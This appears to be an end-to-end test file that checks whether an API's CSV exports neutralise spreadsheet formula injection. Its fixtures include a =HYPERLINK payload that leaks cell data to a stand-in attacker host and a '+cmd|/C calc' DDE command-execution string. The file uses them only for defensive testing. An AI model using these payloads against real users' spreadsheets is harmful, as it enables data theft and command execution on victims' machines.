import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { brandBody, conversionBody, insertDailyStats, openApiDocument, relationshipFixture, useTestApp } from './support';

const enc = encodeURIComponent;

/** What a spreadsheet would run: every CSV the API writes must show these as text (docs/security.md#csv-exports). */
describe('hostile CSV cells: formulas are neutralised in every export (e2e)', () => {
  const ctx = useTestApp();

  it('neutralises formula cells in the conversions CSV: a =HYPERLINK external id comes out prefixed', async () => {
    const r = await relationshipFixture(ctx.t.http, ctx.owner);
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '\tTabbed'];
    for (const externalId of hostile)
      await ctx.t.http
        .post('/v1/conversions')
        .set(ctx.owner.auth)
        .send(conversionBody({ relationshipId: r.id, externalId }))
        .expect(201);
    const csv = await ctx.t.http
      .get(`/v1/conversions?relationshipId=${r.id}`)
      .set(ctx.owner.auth)
      .set('Accept', 'text/csv')
      .buffer(true)
      .expect(200);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true });
    expect(rows.map((row) => row.externalId).sort()).toEqual(hostile.map((id) => `'${id}`).sort());
    // Only text a spreadsheet would run is prefixed: the amounts stay numbers.
    expect(rows.every((row) => /^\d+\.\d{2}$/.test(row.netAmount))).toBe(true);
  });

  it('keeps formula names from the influencer import verbatim in JSON and neutralised in the quarterly report CSV', async () => {
    const name = '=HYPERLINK("http://evil.example/","Click")';
    const imported = await ctx.t.http
      .post('/v1/influencers/import')
      .set(ctx.owner.auth)
      .set('Content-Type', 'text/csv')
      .send(`name,email\n"${name.replace(/"/g, '""')}",formula-${randomUUID()}@example.com\n`)
      .expect(200);
    expect(imported.body).toEqual({ created: 1, updated: 0, rejected: [] });
    const influencer = (
      await ctx.t.http
        .get(`/v1/influencers?q=${enc('HYPERLINK')}`)
        .set(ctx.owner.auth)
        .expect(200)
    ).body.data[0];
    expect(influencer.name).toBe(name);

    const doc = await openApiDocument(ctx.t.http);
    if (!doc.paths['/v1/reports/quarterly']) return; // the reports API has not landed in this tree
    const brandId = (await ctx.t.http.post('/v1/brands').set(ctx.owner.auth).send(brandBody()).expect(201)).body.id;
    const relationship = (
      await ctx.t.http.post('/v1/relationships').set(ctx.owner.auth).send({ brandId, influencerId: influencer.id }).expect(201)
    ).body;
    await insertDailyStats(ctx.t.databaseUrl, ctx.owner.workspaceId, relationship.id, {
      '2026-02-10': { conversions: 1, revenue: '100', spend_product: '5' },
    });
    const csv = await ctx.t.http
      .get(`/v1/reports/quarterly?brandId=${brandId}&quarter=2026-Q1`)
      .set(ctx.owner.auth)
      .set('Accept', 'text/csv')
      .buffer(true)
      .expect(200);
    const rows: Record<string, string>[] = parse(csv.text, { columns: true });
    expect(rows.map((row) => row.influencer_name)).toEqual([`'${name}`]);
  });
});
